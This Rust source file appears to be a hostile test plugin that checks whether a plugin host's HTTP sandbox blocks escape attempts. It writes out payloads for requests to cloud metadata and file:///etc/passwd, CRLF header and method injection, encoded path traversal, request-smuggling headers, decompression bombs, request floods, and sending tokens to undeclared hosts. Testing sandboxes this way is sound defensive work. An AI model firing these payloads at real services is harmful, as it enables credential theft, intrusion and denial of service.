//! Attacks on what may be reached: other hosts, other methods, secrets.

use crate::bindings::rowgate::plugin::http::{self, Body, Part, Request};
use crate::bindings::rowgate::plugin::types::Context;
use crate::{Attack, Outcome, config, resources};

pub(crate) const ATTACKS: &[Attack] = &[
    ("undeclared-host", |_| send(get("https://undeclared.example.net/".to_owned()))),
    ("metadata-address", |_| send(get("http://169.254.169.254/latest/meta-data/".to_owned()))),
    ("file-url", |_| send(get("file:///etc/passwd".to_owned()))),
    ("user-in-url", |context| send(get(format!("{}@undeclared.example.net/", origin(context))))),
    ("longer-host", |context| send(get(format!("{}.example.net/", origin(context))))),
    ("other-port", |context| send(get(format!("{}0/", origin(context))))),
    ("longer-path", |context| send(get(format!("{}-admin", config(context, "api_url"))))),
    ("dots-in-path", |context| send(api(context, "/../admin"))),
    ("hidden-dots-in-path", |context| send(api(context, "/%2e%2e%2fadmin"))),
    ("backslash-in-path", |context| send(api(context, "\\..\\admin"))),
    ("line-break-in-url", |context| send(api(context, "/\r\nx-injected: yes\r\n"))),
    ("undeclared-method", |context| {
        send(Request { method: "DELETE".to_owned(), ..api(context, "/items") })
    }),
    ("host-header", |context| {
        send(header(api(context, "/items"), "host", "undeclared.example.net"))
    }),
    ("header-injection", |context| {
        send(header(api(context, "/items"), "x-note", "a\r\nx-injected: yes"))
    }),
    ("header-name-injection", |context| {
        send(header(api(context, "/items"), "x-note: a\r\nx-injected", "yes"))
    }),
    ("framing-header", |context| {
        let request = header(api(context, "/items"), "transfer-encoding", "chunked");
        send(header(request, "content-length", "0"))
    }),
    ("method-injection", |context| {
        send(Request { method: "GET / HTTP/1.1\r\nx: ".to_owned(), ..api(context, "/items") })
    }),
    ("huge-request", |context| {
        let body = Body::Bytes(vec![b'x'; resources::HUGE]);
        send(Request { method: "POST".to_owned(), body, ..api(context, "/items") })
    }),
    // The answer is larger than `answer_mib`, plain or after decoding: the vendor's side of the test.
    ("huge-answer", |context| send(api(context, "/huge"))),
    // The same as 64 MiB of zeros in a few hundred bytes.
    ("bomb", |context| send(api(context, "/bomb"))),
    ("huge-headers", |context| send(api(context, "/headers"))),
    ("hang", |context| send(api(context, "/hang"))),
    ("redirected", |context| send(api(context, "/redirect"))),
    ("redirected-in-circles", |context| send(api(context, "/circle"))),
    // With the token, to where it isn't bound.
    ("redirected-abroad", |context| {
        send(token_request(context))?;
        send(bearer(api(context, "/abroad"), "access_token"))
    }),
    // A few bytes of the guest stand for a whole secret each.
    ("secret-bomb", |context| {
        let parts = vec![Part::Secret("refresh_token".to_owned()); 300_000];
        send(Request { body: Body::Json(parts), ..token_request(context) })
    }),
    ("request-flood", |context| {
        for _ in 0..2000 {
            let _ = send(Request { method: "DELETE".to_owned(), ..api(context, "/items") });
        }
        Ok("sent".to_owned())
    }),
    ("unknown-secret", |context| send(bearer(api(context, "/items"), "no_such_secret"))),
    // Bound to the token endpoint, sent to the API.
    ("secret-abroad", |context| send(bearer(api(context, "/items"), "client_secret"))),
    ("secret-elsewhere", |context| {
        send(token_request(context))?;
        let elsewhere = get(config(context, "elsewhere_url").to_owned());
        send(bearer(elsewhere, "access_token"))
    }),
    ("webhook-secret", |context| send(bearer(api(context, "/items"), "webhook_secret"))),
    ("config-reader", |context| Ok(format!("{:?}", context.config))),
    ("secret-in-foreign-json", |context| {
        let parts = vec![Part::Secret("refresh_token".to_owned())];
        let body = Body::Json(parts);
        send(Request { method: "POST".to_owned(), body, ..api(context, "/items") })
    }),
    // Half a JSON string around a secret, to make the host quote it wrongly.
    ("secret-inside-a-string", |context| {
        let text = |text: &str| Part::Text(text.to_owned());
        let secret = Part::Secret("refresh_token".to_owned());
        let body = Body::Json(vec![text("{\"a\":\""), secret, text("\"}")]);
        send(Request { body, ..token_request(context) })
    }),
    ("token-reader", |context| send(token_request(context))),
    // The answer is no JSON, so that the token can't be taken out of it.
    ("token-as-form", |context| {
        let url = format!("{}/form", config(context, "token_url"));
        send(Request { url, ..token_request(context) })
    }),
    // The vendor repeats the Authorization header in body, header and Location.
    ("echo", |context| {
        send(token_request(context))?;
        send(bearer(api(context, "/echo"), "access_token"))
    }),
];

/// Send, and tell everything that comes back.
fn send(request: Request) -> Outcome {
    let answer = http::send(&request).map_err(|error| format!("{error:?}"))?;
    let headers: String =
        answer.headers.iter().map(|(name, value)| format!("{name}: {value}\n")).collect();
    let body = String::from_utf8_lossy(&answer.body);
    Ok(format!("{}\n{headers}\n{body}", answer.status))
}

fn get(url: String) -> Request {
    Request {
        method: "GET".to_owned(),
        url,
        query: Vec::new(),
        headers: Vec::new(),
        body: Body::None,
        timeout_ms: None,
    }
}

fn api(context: &Context, path: &str) -> Request {
    get(format!("{}{path}", config(context, "api_url")))
}

/// Scheme, host and port of the API.
fn origin(context: &Context) -> &str {
    let url = config(context, "api_url");
    let host = url.find("://").map_or(0, |at| at + 3);
    url[host..].find('/').map_or(url, |path| &url[..host + path])
}

fn token_request(context: &Context) -> Request {
    let grant = Part::Text("refresh_token".to_owned());
    let secret = |name: &str| (name.to_owned(), Part::Secret(name.to_owned()));
    let fields =
        vec![("grant_type".to_owned(), grant), secret("refresh_token"), secret("client_secret")];
    let url = config(context, "token_url").to_owned();
    Request { method: "POST".to_owned(), body: Body::Form(fields), ..get(url) }
}

fn header(mut request: Request, name: &str, value: &str) -> Request {
    request.headers.push((name.to_owned(), vec![Part::Text(value.to_owned())]));
    request
}

fn bearer(mut request: Request, secret: &str) -> Request {
    let value = vec![Part::Text("Bearer ".to_owned()), Part::Secret(secret.to_owned())];
    request.headers.push(("authorization".to_owned(), value));
    request
}
